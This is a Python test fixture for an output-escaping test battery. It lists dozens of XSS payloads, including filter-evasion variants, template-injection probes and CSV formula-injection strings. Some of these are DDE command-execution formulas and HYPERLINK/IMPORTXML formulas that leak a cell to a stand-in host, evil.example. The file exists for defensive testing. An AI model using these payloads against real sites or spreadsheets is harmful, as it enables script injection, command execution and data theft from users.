"""Hostile strings planted in the exports, the logs and the workflow by the output-escaping battery.

Every XSS payload carries the marker `xss` (any case), so that a checker can tell an element or attribute that
came from a payload from the page's own; the formula payloads start with what a spreadsheet would compute.
"""

from __future__ import annotations

MARKER = "xss"

XSS = [
    "<script>alert('xss')</script>",
    "<ScRiPt>alert('XSS')</sCrIpT>",
    '"><script>alert("xss")</script>',
    "'><img src=x onerror=alert('xss')>",
    "\"'><img src=x onerror=alert('xss')>",
    "<img src=x onerror=alert('xss')>",
    "<IMG SRC=x OnErRoR=alert('XsS')>",
    "<svg onload=alert('xss')>",
    "<svg><script>alert('xss')</script></svg>",
    "<svg/onload=alert('xss')>",
    "javascript:alert('xss')",
    "JaVaScRiPt:alert('xss')",
    "<a href=\"javascript:alert('xss')\">xss</a>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<body onload=alert('xss')>",
    "<details open ontoggle=alert('xss')>",
    "&lt;script&gt;alert('xss')&lt;/script&gt;",
    "&#60;script&#62;alert('xss')&#60;/script&#62;",
    "{{7*7}}xss",
    "{% for x in range(3) %}xss{% endfor %}",
    "${7*7}xss",
    "</textarea><script>alert('xss')</script>",
    "</title><script>alert('xss')</script>",
    "</style><script>alert('xss')</script>",
    "<style>body{background:url(\"javascript:alert('xss')\")}</style>",
    "\" style=\"background:url(javascript:alert('xss'))",
    "' onmouseover='alert(\"xss\")",
    "\" onfocus=\"alert('xss')\" autofocus=\"",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
    "\\u003cscript\\u003ealert('xss')\\u003c/script\\u003e",
    "＜script＞alert('xss')＜/script＞",
    "\u202e<script>alert('xss')</script>",
    "<scr<script>ipt>alert('xss')</script>",
    "<!--<img src=x onerror=alert('xss')>-->",
    "<![CDATA[<script>alert('xss')</script>]]>",
    "<object data=\"javascript:alert('xss')\"></object>",
    "<input autofocus onfocus=alert('xss')>",
    "`<img src=x onerror=alert('xss')>`",
    "[xss](javascript:alert('xss'))",
    "a|b|<b>xss</b>|c",
    "<img src=x onerror=alert('xss')//",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss')\">",
    "<base href=\"javascript:alert('xss')//\">",
    "<link rel=stylesheet href=\"javascript:alert('xss')\">",
]

# Starts a formula in Excel or LibreOffice (OWASP "CSV injection"), leading spaces included.
FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "  =SUM(1,1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
]

# Text a spreadsheet would read as a formula, before neutralisation (what the checks look for).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
